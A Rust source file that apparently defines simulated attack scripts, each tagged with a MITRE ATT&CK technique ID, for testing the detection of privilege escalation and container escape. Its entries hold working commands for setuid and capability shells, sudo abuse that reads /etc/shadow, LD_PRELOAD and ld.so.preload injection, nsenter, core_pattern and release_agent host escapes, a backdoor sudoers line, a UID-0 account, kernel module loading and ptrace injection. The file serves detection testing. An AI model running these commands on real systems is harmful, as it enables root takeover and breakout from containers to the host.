//! Ways to more privileges, and out of containers.

use super::{Attack, User};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "setuid-shell-in-tmp",
        technique: "T1548.001",
        user: User::Alice,
        script: r#"
/var/tmp/.helper -p -c 'id; exit'
"#,
    },
    Attack {
        name: "setuid-copy-made",
        technique: "T1548.001",
        user: User::Root,
        script: r#"
cp /bin/dash /tmp/.dash && chmod u+s /tmp/.dash && setpriv --reuid=alice --regid=alice --clear-groups /tmp/.dash -p -c id
"#,
    },
    Attack {
        name: "capability-shell",
        technique: "T1548.001",
        user: User::Root,
        script: r#"
cp /usr/bin/python3 /home/alice/py && setcap cap_setuid+ep /home/alice/py
setpriv --reuid=alice --regid=alice --clear-groups /home/alice/py -c 'import os; os.setuid(0); os.system("id")'
rm -f /home/alice/py
"#,
    },
    Attack {
        name: "sudo-gtfo-find",
        technique: "T1548.003",
        user: User::Alice,
        script: r#"
sudo -n find /etc/hostname -exec /bin/sh -c 'id; cat /etc/shadow >/dev/null' \;
"#,
    },
    Attack {
        name: "sudo-gtfo-perl",
        technique: "T1548.003",
        user: User::Alice,
        script: r#"
sudo -n perl -e 'exec "/bin/sh", "-c", "id"'
"#,
    },
    Attack {
        name: "sudo-preload",
        technique: "T1574.006",
        user: User::Alice,
        script: r#"
LD_PRELOAD=/home/alice/evil.so sudo -n LD_PRELOAD=/home/alice/evil.so /usr/bin/find /etc/hostname
"#,
    },
    Attack {
        name: "preload-file",
        technique: "T1574.006",
        user: User::Root,
        script: r#"
echo /tmp/evil.so >> /etc/ld.so.preload; sleep 1; rm -f /etc/ld.so.preload
sh -c 'echo /tmp/evil.so | tee -a /etc/ld.so.preload >/dev/null; rm -f /etc/ld.so.preload'
"#,
    },
    Attack {
        name: "container-nsenter-host",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh -c id'
"#,
    },
    Attack {
        name: "container-chroot-host",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'chroot /host /bin/sh -c id'
"#,
    },
    Attack {
        name: "container-core-pattern",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'sh -c "echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern"; cat /host/proc/sys/kernel/core_pattern | tee /proc/sys/kernel/core_pattern'
echo core > /proc/sys/kernel/core_pattern
"#,
    },
    Attack {
        name: "container-release-agent",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'mkdir -p /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; sh -c "echo /cmd > /tmp/c/release_agent"; tee /tmp/c/release_agent < /dev/null'
"#,
    },
    Attack {
        name: "container-mount-disk",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'mkdir -p /tmp/d; mknod /tmp/vda b 254 0; mount /tmp/vda /tmp/d; fdisk -l'
"#,
    },
    Attack {
        name: "container-docker-socket",
        technique: "T1610",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'curl -s --unix-socket /host/var/run/docker.sock http://localhost/containers/json'
"#,
    },
    Attack {
        name: "container-unshare",
        technique: "T1611",
        user: User::Root,
        script: r#"
/run/attack/in-container privileged 'unshare --user --map-root-user --mount /bin/sh -c "mount -t tmpfs none /mnt"'
"#,
    },
    Attack {
        name: "user-namespace-root",
        technique: "T1068",
        user: User::Alice,
        script: r#"
unshare --user --map-root-user --mount --net /bin/sh -c 'id; mount -t tmpfs none /mnt; ip link set lo up'
"#,
    },
    Attack {
        name: "sudoers-change",
        technique: "T1548.003",
        user: User::Root,
        script: r#"
echo 'alice ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/90-cloud > /dev/null; rm -f /etc/sudoers.d/90-cloud
"#,
    },
    Attack {
        name: "user-added-uid-0",
        technique: "T1136.001",
        user: User::Root,
        script: r#"
useradd -o -u 0 -g 0 -M -s /bin/bash support; userdel -f support
"#,
    },
    Attack {
        name: "kernel-module",
        technique: "T1547.006",
        user: User::Root,
        script: r#"
rmmod overlay; cp /lib/modules/overlay.ko /tmp/m.ko; insmod /tmp/m.ko
"#,
    },
    Attack {
        name: "ptrace-inject",
        technique: "T1055.008",
        user: User::Root,
        script: r#"
sleep 30 & victim=$!
gdb -q -batch -p $victim -ex 'call (int)getpid()' -ex detach >/dev/null 2>&1
python3 -c '
import ctypes, sys
libc = ctypes.CDLL(None)
print(libc.ptrace(16, int(sys.argv[1]), 0, 0)); print(libc.ptrace(17, int(sys.argv[1]), 0, 0))' $victim
kill $victim
"#,
    },
];
